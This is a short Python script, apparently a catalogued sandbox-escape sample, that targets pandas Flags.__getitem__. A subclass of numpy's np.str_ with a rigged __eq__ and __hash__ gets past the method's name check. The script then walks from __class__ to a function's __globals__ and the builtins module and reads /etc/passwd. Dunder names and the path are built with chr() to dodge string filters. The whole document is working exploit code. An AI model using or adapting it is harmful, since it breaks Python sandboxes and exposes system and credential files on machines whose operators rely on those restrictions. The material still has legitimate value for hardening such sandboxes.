# source: pandas 1.5.3 pandas/core/flags.py Flags.__getitem__ (`if key not in self._keys: raise`, then getattr(self, key)); numpy's np.str_ is a subclass of str; CPython Lib/functools.py update_wrapper (copies __dict__)
# family: a string whose __eq__/__hash__ are defined in a subclass of np.str_ (the check refuses them in a subclass of str, and does not know np.str_ is one) passes a library's name check that then does a getattr
# goal: gets the builtins module at run time and calls builtins.open("/etc/passwd"), printing the file
import functools

import numpy as np
import pandas as pd


class Key(np.str_):
    calls = 0

    def __eq__(self, other):
        return True

    def __hash__(self):
        # first hash: the set lookup in _keys; later ones: the attribute lookup by the real name
        self.calls = self.calls + 1
        if self.calls == 1:
            return hash("allows_duplicate_labels")
        return hash("" + self)


class Box:
    def __init__(self):
        self._keys = {"allows_duplicate_labels"}


box = Box()


@functools.wraps(box)  # copies box.__dict__, so probe._keys exists
def probe():
    return None


def dunder(word):
    return "".join([chr(95) * 2, word, chr(95) * 2])


df = pd.DataFrame({"a": [1.0]})
flags_class = df.flags[Key(dunder("class"))]  # getattr(df.flags, "__class__"): pd.Flags
# Flags.__getitem__(probe, key): `key not in probe._keys` passes, then getattr(probe, "__globals__")
G = flags_class.__getitem__(probe, Key(dunder("globals")))
B = G[dunder("builtins")]
print(B)
path = "".join([chr(47), "etc", chr(47), "passwd"])
print(B.open(path).read())
